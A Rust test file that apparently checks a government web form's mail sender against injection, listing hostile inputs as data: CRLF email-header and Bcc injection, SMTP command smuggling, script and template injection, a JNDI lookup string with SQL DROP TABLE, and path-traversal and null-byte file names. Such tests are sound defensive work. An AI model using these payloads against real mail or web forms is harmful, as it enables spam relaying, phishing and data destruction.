//! Nothing typed becomes a header, a recipient, a part, markup or a template.

use crate::world::mail::Mail;
use crate::world::posting::{Posting, SARI};
use crate::world::site::World;

/// What has worked against mail software, one trick each.
const TRICKS: [&str; 26] = [
    "Sari\r\nBcc: korban@contoh.com",
    "Sari\nBcc: korban@contoh.com",
    "Sari\rBcc: korban@contoh.com",
    "Sari\r\n\r\nIsi palsu",
    "Sari\r\n.\r\nMAIL FROM:<x@contoh.com>",
    "Sari\n.\nMAIL FROM:<x@contoh.com>",
    "Sari\u{2028}Bcc: korban@contoh.com",
    "Sari\u{85}Bcc: korban@contoh.com",
    "Sari\u{b}Bcc: korban@contoh.com",
    "Sari\0Bcc: korban@contoh.com",
    "Sari%0d%0aBcc:%20korban@contoh.com",
    "Sari\\r\\nBcc: korban@contoh.com",
    "=?utf-8?Q?Sari=0D=0ABcc:_korban@contoh.com?=",
    "=?utf-8?B?U2FyaQ0KQmNjOiBrb3JiYW5AY29udG9oLmNvbQ==?=",
    "sari@pekalongankota.go.id, korban@contoh.com",
    "sari@pekalongankota.go.id>, <korban@contoh.com",
    "\"sari\r\nBcc: korban@contoh.com\"@pekalongankota.go.id",
    "sari@pekalongankota.go.id;korban@contoh.com",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{ reference }}{% for a in b %}",
    "{% include \"mail/agency.txt\" %}",
    "--=_LOCK-22222-22222-2222",
    "Content-Type: text/html\r\n\r\n<b>x</b>",
    "\u{202e}moc.hotnoc@nabrok",
    "${jndi:ldap://contoh.com/a}'; DROP TABLE permohonan; --",
];

fn assert_untouched(world: &World, what: &str) {
    for sent in world.outbox.sent() {
        let mail = Mail::parse(&sent.message);
        let agency = sent.recipients == ["diskominfo@pekalongankota.go.id"];
        assert_eq!(mail.to.len(), 1, "{what}");
        assert_eq!(mail.to, sent.recipients, "{what}");
        assert_eq!(mail.reply_to.len(), 1, "{what}");
        assert_eq!(mail.attachments.len(), if agency { 3 } else { 0 }, "{what}");
        let mut headers = mail.headers.clone();
        headers.sort_unstable();
        headers.dedup();
        assert_eq!(headers.len(), mail.headers.len(), "{what}: {:?}", mail.headers);
        let known = [
            "From",
            "To",
            "Reply-To",
            "Subject",
            "Date",
            "Message-ID",
            "MIME-Version",
            "Content-Type",
            "References",
            "List-Id",
            "X-Loket-Form",
            "X-Loket-Mail",
            "X-Loket-Reference",
            "Content-Language",
            "Auto-Submitted",
            "Content-Transfer-Encoding",
        ];
        for header in &mail.headers {
            assert!(known.contains(&header.as_str()), "{what}: {header}");
        }
        if !agency {
            assert!(!mail.text.contains("korban") && !mail.raw.contains("korban"), "{what}");
        }
    }
}

#[tokio::test]
async fn no_answer_gets_into_a_header_a_recipient_or_a_part() {
    for (name, _) in SARI {
        for trick in TRICKS {
            let world = World::new();
            let what = format!("{name} = {trick:?}");
            let answer = world.post(&Posting::of_sari().set(name, trick)).await;
            assert!(matches!(answer.status, 303 | 422), "{what}: {}", answer.status);
            assert_eq!(world.outbox.sent().len(), if answer.status == 303 { 2 } else { 0 });
            assert_untouched(&world, &what);
            assert!(!answer.body.contains("<script>alert(1)"), "{what}");
            assert!(!answer.body.contains("<img src=x"), "{what}");
            assert!(!answer.event.to_json_line().contains("korban"), "{what}");
        }
    }
}

#[tokio::test]
async fn no_name_or_type_of_a_file_gets_anywhere() {
    let world = World::new();
    for claimed in [
        ("..\\..\\etc\\passwd", "application/pdf"),
        ("surat%0d%0aBcc: korban@contoh.com.pdf", "application/pdf"),
        ("surat.pdf\u{0}.exe", "application/pdf"),
        ("Sari Contoh 3375015501900001.pdf", "text/html; name=\"korban\""),
        ("=?utf-8?Q?korban?=", "multipart/mixed; boundary=korban"),
        ("korban.html", "message/rfc822"),
    ] {
        let posting = Posting::of_sari().claim("surat_pernyataan", claimed.0, claimed.1);
        let answer = world.post(&posting).await;
        assert!(matches!(answer.status, 303 | 400), "{claimed:?}: {}", answer.status);
    }
    assert_untouched(&world, "claimed names");
    for sent in world.outbox.sent() {
        let raw = String::from_utf8(sent.message).expect("ASCII");
        for trace in ["passwd", "korban", ".exe", "message/rfc822"] {
            assert!(!raw.contains(trace), "{trace}");
        }
    }
}

#[tokio::test]
async fn several_lines_cannot_pass_for_other_answers() {
    let world = World::with(|manifest| {
        let fields = &mut manifest["forms"]["kominfo/lock"]["form"]["groups"][0]["fields"];
        fields[3]["kind"] = serde_json::json!({ "textarea": { "min": 1, "max": 1000 } });
    });
    let typed =
        "Arsiparis\r\n\r\nNIK\n    9999999999999999\n--=_batas\nNomor permohonan\n    PALSU";
    assert_eq!(world.post(&Posting::of_sari().set("jabatan", typed)).await.status, 303);
    let mail = Mail::parse(&world.outbox.sent()[0].message);
    assert_eq!(mail.answer("NIK"), "3375015501900001");
    assert_eq!(mail.text.lines().filter(|line| *line == "NIK").count(), 1);
    assert_eq!(mail.text.lines().filter(|line| *line == "Nomor permohonan").count(), 1);
    let record: serde_json::Value =
        serde_json::from_slice(&mail.file(".json").content).expect("JSON");
    assert_eq!(record["fields"][3]["value"], typed.replace("\r\n", "\n"));
}
